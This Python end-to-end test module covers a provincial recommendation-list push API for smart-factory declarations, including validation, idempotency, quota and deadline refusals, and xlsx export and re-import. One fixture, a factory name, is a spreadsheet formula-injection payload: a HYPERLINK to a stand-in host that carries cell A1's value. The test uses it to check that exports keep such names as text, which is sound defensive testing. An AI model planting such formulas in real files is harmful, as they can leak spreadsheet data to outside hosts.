"""A province's system pushes its whole ranked 推荐汇总表 in one call, and the official
spreadsheet goes both ways — through the gateway, with the real processes (issue 16).

On the shared stack, a campaign of its own (2030, made by the ministry through the API, the
2025 quota policy) keeps these lists apart from the other modules' 2026 ones: 30 卓越级 and a
few 领航级 declarations of the Fuzhou demo enterprise (a factory each, recognised 先进级/卓越级
in a 2024 list the ministry imports) are carried up the Fujian chain to the province. Then
Fujian's machine client (scope review:write) pushes: one bad row among 30 changes nothing and
is named; the same push sent 20 times at once makes one list and 20 equal answers; the
exported 附件3/附件5 workbook, opened with openpyxl, has the notice's headers and the
declarations' cells (a project name starting with `=` is a text cell), and uploaded again it
is the same list; over the 领航级 quota and after a deadline (Shanghai's chain of this
campaign closed in 2025) the push is refused naming them; Shanghai's machine client is told
404 for Fujian's list.
"""

from __future__ import annotations

import asyncio
import io
import time
import uuid
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from tests.conftest import (
    DEMO_ENTERPRISE_NAME,
    DEMO_FACTORY_OF,
    client_token,
    dev_token,
    import_recognitions,
)
from tests.e2e.test_declaration_document import _document
from tests.e2e.test_national_and_cultivation import pilot_document
from tests.e2e.test_recommendation_chains import CLEAR, LISTS

pytestmark = pytest.mark.crossservice

YEAR = 2030  # a campaign of this module's own
N = 30
CAMPAIGNS = "/api/declaration/v1/campaigns"
DECL = "/api/declaration/v1/declarations"
CASES = "/api/review/v1/cases"
ID = "/api/identity"
USCC, REGION, _ = DEMO_FACTORY_OF["enterprise"]
ENTERPRISE = DEMO_ENTERPRISE_NAME["enterprise"]
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")推送测试工厂'
# The columns as 工信厅联通装函〔2025〕251号 prints them (附件3, 附件5; the notice breaks two of
# the headers over two lines).
ANNEX_3 = ("序号", "申报单位名称", "卓越级智能工厂项目名称", "涉及典型场景实例（罗列）", "联系人",
           "联系方式（手机号）")  # fmt: skip
ANNEX_5 = ("序号", "申报单位名称", "领航级智能工厂项目名称", "涉及典型场景实例（罗列）",
           "重点探索的未来制造模式清单", "联系人", "联系方式（手机号）")  # fmt: skip
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _deadline(level: str, last_day: str, clause: str) -> dict:
    return {
        "level": level,
        "last_day": last_day,
        "source": "工信厅联通装函〔2030〕（测试批次）",
        "clause": clause,
        "clause_text": f"于{last_day}前完成。",
    }


CAMPAIGN = {
    "year": YEAR,
    "title": "2030年度智能工厂梯度培育（推送测试批次，非官方）",
    "source": "工信厅联通装函〔2030〕（测试批次）",
    "open_tiers": ["basic", "advanced", "excellence", "pilot"],
    "opens_on": "2026-06-01",
    "quota_policy": "2025",
    "publicity_period": "ladder-default",
    "cultivation_period": "251-2025",
    "deadline_chains": [
        {
            "jurisdiction": "",
            "tiers": ["excellence", "pilot"],
            "deadlines": [
                _deadline("enterprise", "2099-07-18", "二(二)1"),
                _deadline("national", "2099-08-01", "二(二)3"),
            ],
        },
        {
            # Shanghai's chain of this campaign closed long ago: its push is late.
            "jurisdiction": "31",
            "tiers": ["excellence"],
            "deadlines": [
                _deadline("enterprise", "2025-07-10", "一(二)1"),
                _deadline("province", "2025-07-21", "一(二)3"),
            ],
        },
    ],
}


def _key() -> dict[str, str]:
    return {"Idempotency-Key": uuid.uuid4().hex}


def _until(what: str, probe: Callable[[], Any], timeout: float = 30.0) -> Any:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if (found := probe()) is not None:
            return found
        time.sleep(0.3)
    raise AssertionError(f"timed out waiting for {what}")


def machine_client(gateway: httpx.Client, official: str, name: str) -> dict[str, str]:
    """A machine client of the official's organisation (review:read, review:write) and a token
    of it from the identity service."""
    created = gateway.post(
        f"{ID}/v1/clients",
        json={"name": name, "scopes": ["review:read", "review:write"]},
        headers={**dev_token(gateway, official), **_key()},
    )
    assert created.status_code == 201, created.text
    client = created.json()
    return client_token(gateway, client["client_id"], client["client_secret"])


async def _gathered(n: int, one: Callable[[int], Awaitable[Any]], width: int = 8) -> list[Any]:
    gate = asyncio.Semaphore(width)

    async def gated(i: int) -> Any:
        async with gate:
            return await one(i)

    return await asyncio.gather(*(gated(i) for i in range(n)))


async def declare_and_forward(
    base: str,
    headers: dict[str, dict[str, str]],
    names: list[str],
    tier: str,
    facts: dict,
) -> list[str]:
    """A declaration of `tier` for a new factory of each name, submitted and forwarded by the
    county (credit checked), the city and the province: each then awaits the province's
    recommendation. Their ids, in the order of `names`."""
    enterprise = headers["enterprise"]
    async with httpx.AsyncClient(base_url=base, timeout=60.0) as client:

        async def forward(did: str, who: str, level: str, body: dict) -> None:
            deadline = time.monotonic() + 60
            while True:
                case = await client.get(f"{CASES}/{did}", headers=headers[who])
                if case.status_code == 200 and (case.json()["level"], case.json()["status"]) == (
                    level,
                    "awaiting_initial_review",
                ):
                    break
                assert time.monotonic() < deadline, f"{did} never reached {level}"
                await asyncio.sleep(0.3)
            resp = await client.post(
                f"{CASES}/{did}/opinions",
                json=body,
                headers={**headers[who], "If-Match": case.headers["ETag"], **_key()},
            )
            assert resp.status_code == 201, resp.text

        async def one(i: int) -> str:
            factory = await client.post(
                f"/api/declaration/v1/enterprises/{USCC}/factories",
                json={"name": names[i], "region_code": REGION},
                headers={**enterprise, **_key()},
            )
            assert factory.status_code == 201, factory.text
            created = await client.post(
                DECL,
                json={"factory_id": factory.json()["id"], "campaign_year": YEAR, "tier": tier,
                      "facts": facts},
                headers={**enterprise, **_key()},
            )  # fmt: skip
            assert created.status_code == 201, created.text
            did = created.json()["id"]
            submitted = await client.post(f"{DECL}/{did}/submit", headers={**enterprise, **_key()})
            assert submitted.status_code == 200, submitted.text
            await forward(did, "county", "county", {"decision": "forward", "credit_check": CLEAR})
            await forward(did, "city", "city", {"decision": "forward"})
            await forward(did, "province", "province", {"decision": "forward"})
            return did

        return await _gathered(len(names), one)


@dataclass
class Pushing:
    base: str
    fujian: dict[str, str]  # Fujian's machine client
    shanghai: dict[str, str]  # Shanghai's machine client
    province_sh: dict[str, str]  # Shanghai's official
    excellence: list[tuple[str, str]]  # (declaration id, project name), as created
    pilot: list[tuple[str, str]]
    pilot_limit: int
    facts: dict
    pilot_facts: dict


def prepare(base: str, n: int = N, *, pilots: bool = True) -> Pushing:
    """The campaign, `n` 卓越级 declarations (and, with `pilots`, one 领航级 more than the
    province's 领航级 quota) awaiting Fujian's recommendation, the machine clients. The
    benchmark (`tests/bench/bench_list_push.py`) builds its list the same way."""
    with httpx.Client(base_url=base, timeout=30.0) as gateway:
        users = ("ministry", "enterprise", "county", "city", "province", "province-sh")
        headers = {u: dev_token(gateway, u) for u in users}
        made = gateway.post(CAMPAIGNS, json=CAMPAIGN, headers={**headers["ministry"], **_key()})
        assert made.status_code == 201, made.text

        def quota(tier: str):
            resp = gateway.get(
                f"/api/rules/v1/campaigns/{YEAR}/quotas",
                params={"tier": tier, "unit": "350000"},
                headers=headers["province"],
            )
            return resp.json()["limit"] if resp.status_code == 200 else None

        # The rules service learns the campaign's quota policy from `campaign.changed`.
        assert _until("the rules service to know the campaign", lambda: quota("excellence")) >= n
        pilot_limit = quota("pilot")
        assert pilot_limit is not None and pilot_limit >= 1
        names = [f"推送测试工厂{i:02d}" for i in range(1, n + 1)]
        names[6] = FORMULA  # rank 7 of the list: a name a spreadsheet would take as a formula
        pilot_names = [f"推送测试领航工厂{i}" for i in range(1, pilot_limit + 2)] if pilots else []
        # 卓越级 asks a recognised 先进级, 领航级 a recognised 卓越级 (251号 二(一)2, 三(一)3).
        rows = [
            {"uscc": USCC, "enterprise_name": ENTERPRISE, "factory_name": name,
             "region_code": REGION, "tier": tier, "year": 2024}
            for names_, tier in ((names, "advanced"), (pilot_names, "excellence"))
            for name in names_
        ]  # fmt: skip
        recognised = import_recognitions(
            gateway, headers["ministry"], rows, "测试数据：推送测试工厂2024年度名单（非官方）"
        )
        assert recognised.status_code == 201, recognised.text
        fujian = machine_client(gateway, "province", "福建省推荐系统（推送测试）")
        shanghai = machine_client(gateway, "province-sh", "上海市推荐系统（推送测试）")
    facts, pilot_facts = _document(), pilot_document()
    excellence = asyncio.run(declare_and_forward(base, headers, names, "excellence", facts))
    pilot = asyncio.run(declare_and_forward(base, headers, pilot_names, "pilot", pilot_facts))
    return Pushing(
        base=base,
        fujian=fujian,
        shanghai=shanghai,
        province_sh=headers["province-sh"],
        excellence=list(zip(excellence, names, strict=True)),
        pilot=list(zip(pilot, pilot_names, strict=True)),
        pilot_limit=pilot_limit,
        facts=facts,
        pilot_facts=pilot_facts,
    )


@pytest.fixture(scope="module")
def pushing(stack) -> Pushing:
    return prepare(stack.url("gateway"))


def _row(rank: int, project: str, facts: dict, tier: str = "excellence") -> dict:
    """A row as a provincial system sends it: by USCC and project, every column filled."""
    contact = facts["applicant"]["contacts"][0]
    row = {
        "rank": rank,
        "enterprise_uscc": USCC,
        "enterprise_name": ENTERPRISE,
        "project_name": project,
        "scenes": [{k: s[k] for k in ("segment", "scene", "instance")} for s in facts["scenes"]],
        "contact": {"name": contact["name"], "mobile": contact["mobile"]},
    }
    if tier == "pilot":
        plan = facts["cultivation_plan"]["directions"]
        row["future_modes"] = [f"{d['category']}-{d['mode']}" for d in plan]
    return row


def _url(tier: str = "excellence", unit: str = "350000") -> str:
    return f"{LISTS}/{YEAR}/{tier}/{unit}"


def _problems(resp: httpx.Response) -> tuple[list[tuple], list[str]]:
    assert resp.status_code == 422, resp.text
    error = resp.json()["error"]
    assert error["code"] == "list_push_invalid"
    rows = [(p["row"], p["field"], p["code"]) for p in error["details"]["row_problems"]]
    return rows, [p["code"] for p in error["details"]["list_problems"]]


@pytest.fixture
def gateway(pushing):
    with httpx.Client(base_url=pushing.base, timeout=30.0) as client:
        yield client


def _table(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


# The tests run in this order: the 卓越级 list is pushed wrong, then as a draft (20 at once),
# then exported and uploaded back, which submits it.


def test_one_bad_row_among_30_changes_nothing_and_is_named(pushing, gateway):
    rows = [_row(i, name, pushing.facts) for i, (_, name) in enumerate(pushing.excellence, 1)]
    rows[16]["contact"] = {**rows[16]["contact"], "mobile": "13900000000"}
    resp = gateway.put(
        f"{_url()}/ranked", json={"entries": rows}, headers={**pushing.fujian, **_key()}
    )
    assert _problems(resp) == ([(17, "contact.mobile", "mismatch")], [])
    (problem,) = resp.json()["error"]["details"]["row_problems"]
    assert problem["expected"] == "138****0000"  # of a mobile, what was declared: its ends
    assert "13900000000" not in resp.text
    assert gateway.get(_url(), headers=pushing.fujian).status_code == 404  # not even opened
    did = pushing.excellence[0][0]
    case = gateway.get(f"{CASES}/{did}", headers=pushing.fujian).json()
    assert case["status"] == "awaiting_recommendation"


def test_the_same_push_sent_20_times_at_once_makes_one_list_and_one_answer(pushing, gateway):
    rows = [_row(i, name, pushing.facts) for i, (_, name) in enumerate(pushing.excellence, 1)]
    body = {"entries": rows, "submit": False}
    key = {"Idempotency-Key": f"push-{uuid.uuid4().hex}"}

    async def twenty() -> list[httpx.Response]:
        async with httpx.AsyncClient(base_url=pushing.base, timeout=60.0) as client:
            return await asyncio.gather(
                *(
                    client.put(f"{_url()}/ranked", json=body, headers={**pushing.fujian, **key})
                    for _ in range(20)
                )
            )

    answers = asyncio.run(twenty())
    assert [a.status_code for a in answers] == [201] * 20, [a.text[:200] for a in answers]
    first = answers[0].json()
    assert all(a.json() == first for a in answers)
    assert {a.headers["ETag"] for a in answers} == {first["etag"]}
    assert first["status"] == "open"
    assert [e["declaration_id"] for e in first["entries"]] == [d for d, _ in pushing.excellence]
    listed = gateway.get(
        LISTS, params={"campaign": YEAR, "tier": "excellence"}, headers=pushing.fujian
    ).json()
    assert listed["total"] == 1
    now = gateway.get(_url(), headers=pushing.fujian).json()
    assert [h["action"] for h in now["history"]] == ["created", "pushed"]
    assert now["history"][1]["actor"].startswith("client:")
    # Another body under the key: refused by the kit.
    other = gateway.put(
        f"{_url()}/ranked",
        json={**body, "entries": rows[:29]},
        headers={**pushing.fujian, **key},
    )
    assert (other.status_code, other.json()["error"]["code"]) == (422, "idempotency_key_reused")


def test_the_exported_table_has_annex_3s_columns_and_imports_back_to_the_same_list(
    pushing, gateway
):
    exported = gateway.get(f"{_url()}/summary-table.xlsx", headers=pushing.fujian)
    assert exported.status_code == 200, exported.text
    sheet = load_workbook(io.BytesIO(exported.content)).active
    assert sheet.title == "附件3"
    assert sheet["A1"].value == "卓越级智能工厂项目推荐汇总表（草稿，未报送）"
    # The unit, not the name of its machine client's system.
    assert sheet["A2"].value == "推荐单位（盖章）：福建省工业和信息化厅"
    assert tuple(c.value for c in sheet[3]) == ANNEX_3
    scenes = [f"{i}.{s['segment']}—{s['scene']}—{s['instance']}"
              for i, s in enumerate(pushing.facts["scenes"], 1)]  # fmt: skip
    contact = pushing.facts["applicant"]["contacts"][0]
    for rank, (_, name) in enumerate(pushing.excellence, 1):
        cells = sheet[3 + rank]
        assert [c.value for c in cells] == [
            rank, ENTERPRISE, name, "\n".join(scenes), contact["name"], contact["mobile"]
        ]  # fmt: skip
        assert all(c.data_type == "s" for c in cells[1:])  # text, all of it
    formula = sheet["C10"]  # rank 7
    assert (formula.value, formula.data_type) == (FORMULA, "s")  # never a formula

    # Meanwhile the system pushes another order; the file puts the exported list back.
    ids = [d for d, _ in pushing.excellence]
    reordered = [_row(i, name, pushing.facts)
                 for i, (_, name) in enumerate(reversed(pushing.excellence), 1)]  # fmt: skip
    again = gateway.put(
        f"{_url()}/ranked",
        json={"entries": reordered, "submit": False},
        headers={**pushing.fujian, **_key()},
    )
    assert again.status_code == 200, again.text
    assert [e["declaration_id"] for e in again.json()["entries"]] == ids[::-1]
    back = gateway.put(
        f"{_url()}/summary-table",
        content=exported.content,
        headers={**pushing.fujian, **_key(), "Content-Type": XLSX},
    )
    assert back.status_code == 200, back.text
    body = back.json()
    assert body["status"] == "submitted"
    assert [e["declaration_id"] for e in body["entries"]] == ids
    assert [h["action"] for h in body["history"]][-3:] == ["pushed", "locked", "submitted"]
    frozen = gateway.get(f"{_url()}/summary-table.xlsx", headers=pushing.fujian)
    assert _table(frozen.content)[2:] == _table(exported.content)[2:]
    # A submitted list is final.
    late = gateway.put(
        f"{_url()}/ranked", json={"entries": reordered}, headers={**pushing.fujian, **_key()}
    )
    assert (late.status_code, late.json()["error"]["code"]) == (409, "list_submitted")
    case = gateway.get(f"{CASES}/{ids[6]}", headers=pushing.fujian).json()
    assert case["status"] == "recommended"


def test_over_the_quota_is_refused_naming_it_and_annex_5_goes_both_ways(pushing, gateway):
    url = _url("pilot")
    rows = [_row(i, name, pushing.pilot_facts, "pilot")
            for i, (_, name) in enumerate(pushing.pilot, 1)]  # fmt: skip
    over = gateway.put(
        f"{url}/ranked", json={"entries": rows}, headers={**pushing.fujian, **_key()}
    )
    assert _problems(over) == ([], ["over_quota"])
    (problem,) = over.json()["error"]["details"]["list_problems"]
    limit = pushing.pilot_limit
    assert (problem["limit"], problem["counted"], problem["rows"]) == (
        limit,
        limit + 1,
        [limit + 1],
    )
    assert problem["clause"] == "工信厅联通装函〔2025〕251号 三(二)2"
    assert problem["source"] == "工信厅联通装函〔2025〕251号"
    assert f"不超过{limit}个" in problem["message"]

    draft = gateway.put(
        f"{url}/ranked",
        json={"entries": rows[:limit], "submit": False},
        headers={**pushing.fujian, **_key()},
    )
    assert draft.status_code == 201, draft.text
    exported = gateway.get(f"{url}/summary-table.xlsx", headers=pushing.fujian)
    sheet = load_workbook(io.BytesIO(exported.content)).active
    assert (sheet.title, tuple(c.value for c in sheet[3])) == ("附件5", ANNEX_5)
    assert sheet["E4"].value == "1.研发模式创新-创成式设计"
    back = gateway.put(
        f"{url}/summary-table",
        params={"submit": "false"},
        content=exported.content,
        headers={**pushing.fujian, **_key(), "Content-Type": XLSX},
    )
    assert back.status_code == 200, back.text
    ranked = lambda body: [(e["rank"], e["declaration_id"]) for e in body["entries"]]  # noqa: E731
    assert (
        ranked(back.json())
        == ranked(draft.json())
        == [(i, d) for i, (d, _) in enumerate(pushing.pilot[:limit], 1)]
    )


def test_a_push_after_the_deadline_is_refused_naming_it(pushing, gateway):
    rows = [_row(1, pushing.excellence[0][1], pushing.facts)]
    late = gateway.put(
        f"{_url(unit='310000')}/ranked",
        json={"entries": rows},
        headers={**pushing.province_sh, **_key()},
    )
    assert late.status_code == 409, late.text
    error = late.json()["error"]
    assert error["code"] == "deadline_passed"
    assert {k: error["details"][k] for k in ("level", "last_day", "clause")} == {
        "level": "province",
        "last_day": "2025-07-21",
        "clause": "一(二)3",
    }
    assert error["details"]["closes_at"].startswith("2025-07-2")


def test_another_provinces_machine_client_is_refused(pushing, gateway):
    rows = [_row(1, name, pushing.facts) for _, name in pushing.pilot[:1]]
    url = _url("pilot")
    pushed = gateway.put(
        f"{url}/ranked", json={"entries": rows}, headers={**pushing.shanghai, **_key()}
    )
    assert (pushed.status_code, pushed.json()["error"]["code"]) == (
        404,
        "recommendation_list_not_found",
    )
    uploaded = gateway.put(
        f"{url}/summary-table",
        content="序号,申报单位名称,领航级智能工厂项目名称\n1,x,y\n".encode(),
        headers={**pushing.shanghai, **_key(), "Content-Type": "text/csv"},
    )
    assert uploaded.status_code == 404, uploaded.text
    assert gateway.get(url, headers=pushing.shanghai).status_code == 404
